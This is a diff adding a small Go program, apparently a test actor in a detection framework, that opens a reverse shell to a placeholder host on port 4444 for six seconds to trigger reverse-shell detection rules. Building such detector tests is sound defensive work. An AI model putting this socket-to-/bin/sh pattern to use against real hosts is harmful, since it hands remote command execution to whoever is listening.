@@ -1,0 +1,45 @@
+// Command revshell connects to a stranger and gives whoever is there a shell,
+// for some seconds. The address is one at which nobody can be, and the shell
+// that of the actors' images, which knows a few words.
+//
+// Rule: command-and-control/shell-answers and reverse-shell.
+package main
+
+import (
+	"context"
+	"fmt"
+	"net"
+	"os/exec"
+	"time"
+
+	"github.com/detonaut/detonaut/actors/stage"
+	"github.com/detonaut/detonaut/actors/wire"
+)
+
+// long is how long the shell waits for orders.
+const long = 6 * time.Second
+
+func main() { stage.Play(connect) }
+
+func connect(ctx context.Context) error {
+	ctx, cancel := context.WithTimeout(ctx, long)
+	defer cancel()
+	var d net.Dialer
+	conn, err := d.DialContext(ctx, "tcp", wire.Stranger+":4444")
+	if err != nil {
+		return err
+	}
+	defer conn.Close()
+	f, err := conn.(*net.TCPConn).File()
+	if err != nil {
+		return err
+	}
+	defer f.Close()
+	cmd := exec.CommandContext(ctx, "/bin/sh")
+	cmd.Stdin, cmd.Stdout, cmd.Stderr = f, f, f
+	if err := cmd.Run(); err != nil && ctx.Err() == nil {
+		return err
+	}
+	fmt.Println("the shell is over")
+	return nil
+}
